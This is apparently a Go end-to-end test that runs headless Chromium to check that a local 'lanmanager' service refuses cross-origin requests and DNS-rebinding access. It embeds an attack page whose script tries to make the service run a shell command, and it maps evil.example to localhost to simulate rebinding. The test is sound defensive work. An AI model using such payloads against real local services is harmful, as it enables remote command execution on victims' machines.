package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// browser returns the path of a Chromium to drive headless, skipping the
// test when there is none unless BERTH_E2E_BROWSER=require (.ci/run
// installs Debian's chromium and sets it).
func browser(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	if os.Getenv("BERTH_E2E_BROWSER") == "require" {
		t.Fatal("no chromium, and BERTH_E2E_BROWSER=require")
	}
	t.Skip("no chromium (apt-get install chromium); set BERTH_E2E_BROWSER=require to make this a failure")
	return ""
}

// browserArgs are the flags that run Chromium headless and keep it off the
// network, with a profile of the test's own.
func browserArgs(t *testing.T, extra ...string) []string {
	return append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
		"--user-data-dir=" + t.TempDir()}, extra...)
}

// attackPage is what a web page at another origin does to the
// lanmanager: the text/plain POST (no preflight), a JSON POST
// (preflighted), and a read; it reports what it saw to its own server.
const attackPage = `<!doctype html><html><body>working<script>
const lan = "http://%[1]s";
const body = JSON.stringify({name: "pwn", command: ["sh", "-c", "id > %[2]s; sleep 3600"]});
async function attempt(f) { try { return await f(); } catch (e) { return "error: " + e; } }
(async () => {
  const r = {};
  r.simple = await attempt(async () => "sent " + (await fetch(lan + "/v1/needs", {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "text/plain;charset=UTF-8"}, body})).type);
  r.json = await attempt(async () => "status " + (await fetch(lan + "/v1/needs", {method: "POST",
    headers: {"Content-Type": "application/json"}, body})).status);
  r.read = await attempt(async () => { const x = await fetch(lan + "/v1/needs"); return "status " + x.status + " " + await x.text(); });
  document.body.textContent = "RESULT " + JSON.stringify(r);
  await fetch("/report", {method: "POST", body: JSON.stringify(r)});
})();
</script></body></html>`

// TestBrowserAttack is the attack in a real browser: a page from
// another origin makes Chromium post a need to the lanmanager. The request
// goes out (the browser sends it without asking) and is refused; nothing
// is declared and nothing runs; the page can read nothing. Then, as after
// DNS rebinding, the browser reaches the lanmanager under the attacker's
// host name: refused too.
func TestBrowserAttack(t *testing.T) {
	chromium := browser(t)
	l := startLan(t, "")
	startMaster(t, l, "m1", 5)
	pwned := filepath.Join(t.TempDir(), "pwned")

	var mu sync.Mutex
	var report map[string]string
	reported := make(chan struct{})
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, attackPage, l.addr, pwned)
		case "/report":
			var got map[string]string
			json.NewDecoder(r.Body).Decode(&got)
			mu.Lock()
			if report == nil {
				report = got
				close(reported)
			}
			mu.Unlock()
		}
	}))
	defer page.Close()

	cmd := exec.Command(chromium, browserArgs(t, "--virtual-time-budget=20000", page.URL+"/")...)
	cmd.Stdout, cmd.Stderr = io.Discard, io.Discard
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cmd.Process.Kill(); cmd.Wait() }()
	select {
	case <-reported:
	case <-time.After(60 * time.Second):
		t.Fatal("the page reported nothing within 60 s")
	}
	mu.Lock()
	defer mu.Unlock()
	t.Logf("the page saw: %v", report)
	if report["simple"] != "sent opaque" {
		t.Errorf("the browser did not send the no-cors POST (%q); the test proves nothing", report["simple"])
	}
	if !strings.HasPrefix(report["json"], "error") || !strings.HasPrefix(report["read"], "error") {
		t.Errorf("the page got an answer it can read: json %q, read %q", report["json"], report["read"])
	}
	waitFor(t, 10*time.Second, "the lanmanager to log the refusal", func() bool {
		b, _ := os.ReadFile(l.proc.log)
		return strings.Contains(string(b), `msg="refused a request" why=cross-origin`)
	})
	if out := l.mustCLI(t, "need", "ls", "--json"); strings.TrimSpace(out) != "[]" {
		t.Errorf("the page declared a need: %s", out)
	}
	if _, err := os.Stat(pwned); err == nil {
		t.Error("the page's command ran")
	}

	// DNS rebinding: the attacker's name now resolves to the lanmanager.
	_, port, _ := strings.Cut(l.addr, ":")
	out, err := exec.Command(chromium, browserArgs(t, "--host-resolver-rules=MAP evil.example 127.0.0.1",
		"--dump-dom", "http://evil.example:"+port+"/v1/needs")...).Output()
	if err != nil {
		t.Fatalf("chromium --dump-dom: %v", err)
	}
	if !strings.Contains(string(out), "does not name this lanmanager") {
		t.Errorf("after rebinding the browser read:\n%s\nwant the 421 refusal", out)
	}
}
